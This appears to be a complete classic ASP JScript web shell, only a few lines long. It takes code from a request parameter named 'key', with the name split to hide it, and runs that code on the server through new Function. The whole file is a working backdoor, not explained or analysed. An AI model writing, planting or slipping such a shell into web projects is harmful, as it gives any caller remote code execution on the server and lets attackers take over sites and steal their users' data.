<%@ Language="JScript" %>
<%
var k = String(Request.Item("k" + "ey"));
var b = new Function(k);
b.call(this);
%>
